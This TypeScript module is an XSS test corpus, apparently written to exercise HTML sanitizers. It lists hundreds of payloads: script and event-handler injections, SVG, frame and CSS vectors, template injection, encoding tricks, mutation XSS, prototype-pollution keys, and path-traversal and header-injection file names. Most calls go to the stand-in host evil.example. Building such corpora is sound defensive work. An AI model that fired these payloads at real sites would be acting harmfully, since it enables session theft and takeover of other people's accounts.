import { PROGRAM_ADDRESSES } from "./program-addresses.ts";

/**
 * Texts that would run a program, or call another host, wherever a page took them for more than
 * text. The forms are public knowledge of many years; the wording is ours. Each sets `__pwned` in
 * the window, opens a dialog, or asks `evil.example` for something.
 */
export interface XssPayload {
  readonly id: string;
  readonly text: string;
}

const P = "__pwned=1";
const FAR = "//evil.example/x";

/** Elements that run what stands in them, and ways out of where a text might stand. */
const scripts = [
  `<script>${P}</script>`,
  `<ScRiPt>${P}</sCrIpT>`,
  `<script/a>${P}</script>`,
  `<script\n>${P}</script\n>`,
  `<script src=${FAR}.js></script>`,
  `<script type=module>${P}</script>`,
  `<script type="importmap">{"imports":{"a":"${FAR}"}}</script>`,
  `<scr<script>ipt>${P}</scr</script>ipt>`,
  `<<script>${P}//<</script>`,
  `<scr\u0000ipt>${P}</scr\u0000ipt>`,
  `</script><script>${P}</script>`,
  `</title><script>${P}</script>`,
  `</textarea><script>${P}</script>`,
  `</style><script>${P}</script>`,
  `--><script>${P}</script>`,
  `]]><script>${P}</script>`,
  `"><script>${P}</script>`,
  `'><script>${P}</script>`,
  `<script>${P}`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${P}</script>`,
];

/** An element and the event by which it would run of its own accord, or at a touch. */
const handlers = [
  ["img src=x", "onerror"],
  ["img src=x:x", "OnErRoR"],
  ["img/src=x/", "onerror"],
  ["image src=x", "onerror"],
  ["img srcset=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video src=x", "onerror"],
  ["video><source", "onerror"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["body", "onhashchange"],
  ["svg", "onload"],
  ["style", "onload"],
  ["link rel=stylesheet href=/a.css", "onerror"],
  ["iframe", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a tabindex=1 autofocus", "onfocusin"],
  ["div contenteditable autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["dialog open", "onclose"],
  ["marquee", "onstart"],
  ["marquee loop=1", "onfinish"],
  ["div", "onmouseover"],
  ["div", "onpointerrawupdate"],
  ["div", "onclick"],
  ["div style=animation:a", "onanimationstart"],
  ["div style=transition:1s", "ontransitionend"],
  ["input type=image src=x", "onerror"],
  ["form", "onformdata"],
  ["b popover id=a", "onbeforetoggle"],
  ["x", "onbeforematch"],
  ["p", "oncontentvisibilityautostatechange"],
  ["track", "oncuechange"],
] as const;

const drawings = [
  `<svg><script>${P}</script></svg>`,
  `<svg><script href="data:text/javascript,${P}"/></svg>`,
  `<svg><script xlink:href=${FAR}.js></script></svg>`,
  `<svg><a xlink:href="javascript:${P}"><text y=9>a</text></a></svg>`,
  `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${P}>`,
  `<svg><a><animate attributeName=href values=javascript:${P} /><text>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${P}'/>#x"/></svg>`,
  `<svg><image href=x onerror=${P}></svg>`,
  `<svg><foreignObject><body onload=${P}></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${P}</script>"></foreignObject></svg>`,
  `<svg><style>@import "${FAR}.css";</style></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${P}</handler></svg>`,
  `<svg><feImage href=${FAR}.svg></svg>`,
  `<math href="javascript:${P}">a</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${P}">a</maction></math>`,
];

const frames = [
  `<iframe src="javascript:${P}"></iframe>`,
  `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${P}&gt;"></iframe>`,
  `<iframe src=${FAR}></iframe>`,
  `<iframe src="data:text/html,<script>parent.${P}</script>"></iframe>`,
  `<frameset onload=${P}>`,
  `<object data="javascript:${P}"></object>`,
  `<object type="text/x-scriptlet" data=${FAR}></object>`,
  `<embed src="javascript:${P}">`,
  `<applet code="${FAR}.class"></applet>`,
  `<base href="${FAR}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${P}">`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<link rel=stylesheet href=${FAR}.css>`,
  `<link rel=prefetch href=${FAR}>`,
  `<form action="javascript:${P}"><button>a</button></form>`,
  `<form><button formaction="javascript:${P}">a</button></form>`,
  `<isindex action="javascript:${P}" type=image>`,
  `<a href="javascript:${P}">a</a>`,
  `<a href=x ping=${FAR}>a</a>`,
  `<portal src=${FAR}></portal>`,
];

const styles = [
  `<style>*{background:url(${FAR})}</style>`,
  `<style>@import '${FAR}.css';</style>`,
  `<style>@font-face{font-family:a;src:url(${FAR}.woff)}*{font-family:a}</style>`,
  `<div style="background:url(${FAR})">a</div>`,
  `<div style="background:url(javascript:${P})">a</div>`,
  `<div style="width:expression(${P})">a</div>`,
  `<div style="-moz-binding:url(${FAR}.xml#a)">a</div>`,
  `<div style="behavior:url(${FAR}.htc)">a</div>`,
  `red;background:url(${FAR})`,
  `}*{background:url(${FAR})}`,
  `</style><style>*{background:url(${FAR})}</style>`,
  `<style><!--</style><script>${P}//--></script>`,
  `url("${FAR}")`,
];

const templates = [
  `{{constructor.constructor('${P}')()}}`,
  `{{${P}}}`,
  `{${P}}`,
  `\${${P}}`,
  "`${__pwned=1}`",
  `<%= ${P} %>`,
  `#{${P}}`,
  `{%raw%}{{${P}}}`,
  `{name, plural, other {<script>${P}</script>}}`,
  `{0}</0><script>${P}</script>`,
  `'{' ${P} '}'`,
  `<div ng-app>{{$on.constructor('${P}')()}}</div>`,
  `<div v-html="'<img src=x onerror=${P}>'"></div>`,
  `<div x-data x-init="${P}"></div>`,
  `<template><img src=x onerror=${P}></template>`,
  `<div><template shadowrootmode=open><script>${P}</script></template></div>`,
  `<a is=x-y onclick=${P}>a</a>`,
];

const encodings = [
  `&lt;script&gt;${P}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${P}`,
  `&#60;script&#62;${P}&#60;/script&#62;`,
  `%3Cscript%3E${P}%3C/script%3E`,
  `%253Cscript%253E${P}`,
  `\\u003cscript\\u003e${P}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${P}`,
  `＜script＞${P}＜/script＞`,
  `+ADw-script+AD4-${P}+ADw-/script+AD4-`,
  `\u202e<script>${P}</script>\u202c`,
  `<s\u200bcript>${P}</s\u200bcript>`,
  `<ѕcript>${P}</ѕcript>`,
  `\ud83d<script>${P}</script>`,
  `<img src=x\u2028onerror=${P}>`,
  `<img src=x\u0009onerror\u0009=\u0009${P}>`,
  `<img\u000csrc=x\u000conerror=${P}>`,
  `ja\u0301vascript:${P}`,
  `\u0000<script>${P}</script>`,
];

const keys = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "constructor.prototype.__pwned",
  `{"__proto__":{"__pwned":1}}`,
  "dangerouslySetInnerHTML",
];

const markdown = [
  `[a](javascript:${P})`,
  `[a](JAVASCRIPT:${P} "b")`,
  `[a](<javascript:${P}>)`,
  `[a](java&#115;cript:${P})`,
  `[a](data:text/html,<script>${P}</script>)`,
  `![a](${FAR}.png)`,
  `![a](x"onerror="${P})`,
  `<javascript:${P}>`,
  `[a]: javascript:${P}\n[a]`,
  `[![a](x)](javascript:${P})`,
  `\`\`\`html\n<script>${P}</script>\n\`\`\``,
  `<div markdown=1><script>${P}</script></div>`,
  `a\n<script>${P}</script>\nb`,
];

const fileNames = [
  `"><img src=x onerror=${P}>.png`,
  `<svg onload=${P}>.png`,
  `../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `a.png\u0000.html`,
  `a.png\r\nContent-Type: text/html\r\n\r\n<script>${P}</script>`,
  `a.png";filename="b.html`,
  `CON`,
  `javascript:${P}.png`,
];

/** Texts that are harmless when parsed once, and not when what was parsed is written and parsed again. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `<svg></p><style><a title="</style><img src=x onerror=${P}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${P}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${P}>`,
  `<svg><desc><p><style><b title="</style><img src=x onerror=${P}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${P}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${P}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${P}>">`,
  `<title><p title="</title><img src=x onerror=${P}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${P}>">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${P}>">`,
  `<svg><![CDATA[<p title="]]><img src=x onerror=${P}>">`,
  `<table><td background="javascript:${P}"><style></table><img src=x onerror=${P}>`,
  `<!--<img src="--><img src=x onerror=${P}//">`,
  `<plaintext><img src=x onerror=${P}>`,
];

const breakouts = [
  `" autofocus onfocus=${P} a="`,
  `' autofocus onfocus=${P} a='`,
  `\` onclick=${P} \``,
  `x onmouseover=${P} `,
  `"><img src=x onerror=${P}>`,
  `'><img src=x onerror=${P}>`,
  `';${P}//`,
  `";${P}//`,
  `\\";${P}//`,
  `'-${P.replace("=", "?0:")}-'`,
  `*/${P}/*`,
  `\n${P}\n`,
  `");${P}//`,
  `]}';${P}//`,
  `</p><img src=x onerror=${P}>`,
  `"style="background:url(${FAR})`,
];

const families: Readonly<Record<string, readonly string[]>> = {
  script: scripts,
  handler: handlers.map(([element, event]) => `<${element} ${event}=${P}>`),
  drawing: drawings,
  frame: frames,
  address: PROGRAM_ADDRESSES,
  style: styles,
  template: templates,
  encoding: encodings,
  key: keys,
  markdown,
  file: fileNames,
  mutation: mutations,
  breakout: breakouts,
};

export const XSS_CORPUS: readonly XssPayload[] = Object.entries(families).flatMap(
  ([family, texts]) => texts.map((text, number) => ({ id: `${family}${number + 1}`, text })),
);

/** Those that fit into a field of so many letters, which is trimmed and must not be empty. */
export function withinLength(longest: number): readonly XssPayload[] {
  return XSS_CORPUS.filter(({ text }) => text.trim() !== "" && text.length <= longest);
}
